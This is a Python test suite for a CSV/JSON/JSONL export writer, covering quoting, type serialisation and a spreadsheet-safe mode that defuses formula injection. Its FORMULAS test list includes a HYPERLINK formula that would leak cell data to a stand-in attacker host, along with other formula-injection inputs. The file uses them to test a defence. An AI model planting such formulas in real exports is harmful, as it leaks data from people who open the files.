# ruff: noqa: DTZ001 - many databases hold datetimes without an offset, so these tests do as well

from __future__ import annotations

import datetime as dt
import enum
import gc
import hashlib
import io
import json
import uuid
from collections.abc import Sequence
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from jobs.handlers.errors import FormatError
from jobs.handlers.writers import CONTENT_TYPES, defuse_formula, write_rows
from tests.handlers.shop import read_csv


def written(columns: Sequence[str], rows: list[Sequence[Any]], **options: Any) -> bytes:
    file = io.BytesIO()
    tally = write_rows(file, columns, iter(rows), **options)
    raw = file.getvalue()

    assert tally.total_rows == len(rows)
    assert tally.bytes == len(raw)
    assert tally.sha256 == hashlib.sha256(raw).hexdigest()
    return raw


def test_a_csv_to_the_byte() -> None:
    raw = written(
        ["id", "name, first", "note"],
        [(1, "Łódź 🍣", None), (2, 'a "b"', ""), (3, "a\nb", "x,y"), (4, "\r", " ")],
    )

    assert raw.decode("utf-8") == (
        'id,"name, first",note\r\n'
        "1,Łódź 🍣,\r\n"  # NULL is empty
        '2,"a ""b""",""\r\n'  # the empty string is quoted
        '3,"a\nb","x,y"\r\n'
        '4,"\r", \r\n'
    )


def test_one_column_has_no_empty_lines() -> None:
    assert written(["note"], [(None,), ("",), ("x",)]) == b'note\r\n""\r\n""\r\nx\r\n'


class Colour(enum.Enum):
    RED = "r"


class Level(enum.IntEnum):
    HIGH = 3


class Mood(enum.StrEnum):
    GOOD = "=good"


class Odd:
    def __str__(self) -> str:
        return "[1,5)"


BERLIN = dt.timezone(dt.timedelta(hours=2))

# value, in CSV as a reader sees it, in JSON as a reader sees it
VALUES: list[tuple[Any, str, Any]] = [
    (None, "", None),
    (True, "true", True),
    (False, "false", False),
    (0, "0", 0),
    (-(2**63), "-9223372036854775808", -(2**63)),
    (2**63 - 1, "9223372036854775807", 2**63 - 1),
    (0.1, "0.1", 0.1),
    (-0.0, "-0.0", -0.0),
    (1e300, "1e+300", 1e300),
    (float("nan"), "NaN", "NaN"),
    (float("inf"), "Infinity", "Infinity"),
    (float("-inf"), "-Infinity", "-Infinity"),
    (Decimal("12.30"), "12.30", "12.30"),
    (Decimal("-0.000000001"), "-0.000000001", "-0.000000001"),
    (Decimal("1E+3"), "1000", "1000"),
    (Decimal("12345678901234567890.123456789"),) + ("12345678901234567890.123456789",) * 2,
    (dt.date(2024, 2, 29), "2024-02-29", "2024-02-29"),
    (dt.datetime(2024, 2, 29, 8), "2024-02-29T08:00:00", "2024-02-29T08:00:00"),
    (dt.datetime(2024, 2, 29, 8, 0, 0, 5, BERLIN),) + ("2024-02-29T08:00:00.000005+02:00",) * 2,
    (dt.time(23, 59, 59, 1), "23:59:59.000001", "23:59:59.000001"),
    (dt.timedelta(days=1, hours=2, seconds=3), "26:00:03", "26:00:03"),
    (dt.timedelta(milliseconds=-1500), "-0:00:01.500000", "-0:00:01.500000"),
    (b"\x00\xff=", "AP89", "AP89"),
    (bytearray(b"ab"), "YWI=", "YWI="),
    (memoryview(b"ab"), "YWI=", "YWI="),
    (uuid.UUID(int=1),) + ("00000000-0000-0000-0000-000000000001",) * 2,
    ("nul \0 inside", "nul \0 inside", "nul \0 inside"),
    ("\u2028 \x85 \x1c", "\u2028 \x85 \x1c", "\u2028 \x85 \x1c"),
    (Colour.RED, "RED", "RED"),
    (Level.HIGH, "HIGH", "HIGH"),
    (Mood.GOOD, "GOOD", "GOOD"),
    ({"a": [1, None, "é"]}, '{"a":[1,null,"é"]}', {"a": [1, None, "é"]}),
    (
        {"at": dt.date(2024, 1, 1), "x": Decimal("0.10"), "n": float("nan")},
        '{"at":"2024-01-01","x":"0.10","n":"NaN"}',
        {"at": "2024-01-01", "x": "0.10", "n": "NaN"},
    ),
    ([1, 2.5], "[1,2.5]", [1, 2.5]),
    (Odd(), "[1,5)", "[1,5)"),
]


@pytest.mark.parametrize(("value", "in_csv", "in_json"), VALUES)
@pytest.mark.parametrize("safe", [False, True])
def test_values(value: Any, in_csv: str, in_json: Any, safe: bool) -> None:
    table = written(["id", "value"], [(1, value), (2, value)], spreadsheet_safe=safe)
    lines = written(["value"], [(value,)], file_format="jsonl", spreadsheet_safe=safe)
    array = written(["value"], [(value,)], file_format="json", spreadsheet_safe=safe)

    expected = defuse_formula(in_csv) if safe and isinstance(value, dt.timedelta) else in_csv
    assert read_csv(table) == [["id", "value"], ["1", expected], ["2", expected]]
    # The repr tells 1 from 1.0 and from true.
    assert repr(json.loads(lines)) == repr({"value": in_json})
    assert repr(json.loads(array)) == repr([{"value": in_json}])


def test_a_type_is_not_mistaken_for_an_earlier_one() -> None:
    rows: list[Sequence[Any]] = [(1,), (True,), (1.0,), (None,), (Decimal("1.0"),), ("1",)]

    assert written(["v"], rows) == b'v\r\n1\r\ntrue\r\n1.0\r\n""\r\n1.0\r\n1\r\n'


@pytest.mark.parametrize(
    ("file_format", "expected"), [("csv", b"a,b\r\n"), ("json", b"[]\n"), ("jsonl", b"")]
)
def test_no_rows(file_format: str, expected: bytes) -> None:
    assert written(["a", "b"], [], file_format=file_format) == expected


def test_json_shapes() -> None:
    rows: list[Sequence[Any]] = [(1, "é\n"), (2, None)]

    assert written(["a", "b"], rows, file_format="jsonl").decode() == (
        '{"a":1,"b":"é\\n"}\n{"a":2,"b":null}\n'
    )
    assert written(["a", "b"], rows, file_format="json").decode() == (
        '[\n{"a":1,"b":"é\\n"},\n{"a":2,"b":null}\n]\n'
    )


def test_repeated_names_lose_nothing() -> None:
    columns = ["id", "id", "id_2", "id"]

    assert json.loads(written(columns, [(1, 2, 3, 4)], file_format="jsonl")) == {
        "id": 1,
        "id_3": 2,
        "id_2": 3,
        "id_4": 4,
    }
    assert written(columns, [(1, 2, 3, 4)]) == b"id,id,id_2,id\r\n1,2,3,4\r\n"


def test_a_lone_surrogate_does_not_stop_an_export() -> None:
    rows: list[Sequence[Any]] = [("a\ud800b",)]

    assert written(["v"], rows) == b"v\r\na\\ud800b\r\n"
    assert json.loads(written(["v"], rows, file_format="jsonl")) == {"v": "a\ud800b"}


def test_an_unknown_format_names_the_known_ones() -> None:
    with pytest.raises(FormatError, match="'xlsx'; choose one of: csv, json, jsonl"):
        write_rows(io.BytesIO(), ["a"], [], file_format="xlsx")


def test_what_the_rows_raise_comes_through() -> None:
    file = io.BytesIO()

    def rows() -> Any:
        yield ("x" * 1_000_000,)
        yield ("y",)
        raise OSError("the database went away")

    with pytest.raises(OSError, match="went away"):
        write_rows(file, ["a"], rows())
    gc.collect()  # what is left in buffers is not written behind the caller's back
    assert not file.getvalue().endswith(b"y\r\n")
    file.close()


# --- formulas

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+49 30 1234",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "  =1+1",
    "\u00a0=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\tplain",
]
HARMLESS = ["", "a=b", "1-2", "'=1", "Ann <ann@example.com>", "0049", "é", " x", "–dash"]  # noqa: RUF001


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_defused(text: str) -> None:
    safe = written([text, "b"], [(text, 1)], spreadsheet_safe=True)
    plain = written([text, "b"], [(text, 1)])

    assert read_csv(safe) == [["'" + text, "b"], ["'" + text, "1"]]
    assert read_csv(plain) == [[text, "b"], [text, "1"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays(text: str) -> None:
    assert read_csv(written(["a", "b"], [(text, 1)], spreadsheet_safe=True))[1] == [text, "1"]


@pytest.mark.parametrize("number", [-5, -0.5, Decimal("-12.30"), float("-inf")])
def test_numbers_stay_numbers(number: Any) -> None:
    row = read_csv(written(["a", "b"], [(number, 1)], spreadsheet_safe=True))[1]

    assert type(number)(row[0]) == number


def test_json_is_never_defused() -> None:
    raw = written(["a"], [("=1+1",)], file_format="jsonl", spreadsheet_safe=True)

    assert json.loads(raw) == {"a": "=1+1"}


# --- whatever a database may hold

TEXT = st.none() | st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
TABLES = st.integers(1, 4).flatmap(
    lambda width: st.lists(st.tuples(*[TEXT] * width), min_size=1, max_size=6)
)


@given(TABLES)
@example([("a\r\nb", '"', None), ("", ",", "\r")])
def test_any_text_is_read_back(table: list[tuple[str | None, ...]]) -> None:
    names = [f"c{number}" for number in range(len(table[0]))]
    texts = [[cell or "" for cell in row] for row in table]

    assert read_csv(written(names, list(table))) == [names, *texts]
    lines = written(names, list(table), file_format="jsonl").decode().split("\n")
    assert [tuple(json.loads(line).values()) for line in lines[:-1]] == table
    array = json.loads(written(names, list(table), file_format="json"))
    assert [tuple(row.values()) for row in array] == table


@given(TABLES)
def test_null_and_empty_can_be_told_apart(table: list[tuple[str | None, ...]]) -> None:
    if len(table[0]) == 1:
        return  # said in the module's text
    raw = written([f"c{number}" for number in range(len(table[0]))], list(table)).decode()
    told = _read_with_quotes(raw)[1:]

    assert told == [list(row) for row in table]


def _read_with_quotes(text: str) -> list[list[str | None]]:
    """A reader by the letter of RFC 4180 that remembers which fields were quoted."""
    records: list[list[str | None]] = []
    fields: list[str | None] = []
    place = 0
    while place < len(text):
        if text[place] == '"':
            value = ""
            place += 1
            while text[place] != '"' or text[place + 1] == '"':
                value += text[place]
                place += 2 if text[place] == '"' else 1
            place += 1
            fields.append(value)
        else:
            end = min(at for at in (text.find(",", place), text.find("\r\n", place)) if at >= 0)
            fields.append(text[place:end] or None)
            place = end
        if text[place] == ",":
            place += 1
        else:
            assert text[place : place + 2] == "\r\n"
            place += 2
            records.append(fields)
            fields = []
    return records


@given(st.text())
def test_no_cell_begins_a_formula(text: str) -> None:
    first = defuse_formula(text).lstrip()[:1]

    assert first not in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def test_every_format_has_a_content_type() -> None:
    for name, content_type in CONTENT_TYPES.items():
        assert written(["a"], [(1,)], file_format=name)
        assert content_type.count("/") == 1
